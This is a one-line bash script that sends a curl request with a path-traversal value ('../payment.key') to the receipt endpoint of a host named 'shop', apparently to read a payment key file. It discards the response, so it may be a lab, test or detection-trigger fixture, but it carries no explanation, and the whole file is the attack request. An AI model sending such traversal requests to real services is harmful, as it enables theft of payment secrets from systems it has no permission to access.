#!/bin/bash
curl -s -o /dev/null 'http://shop:8080/receipt?file=../payment.key'
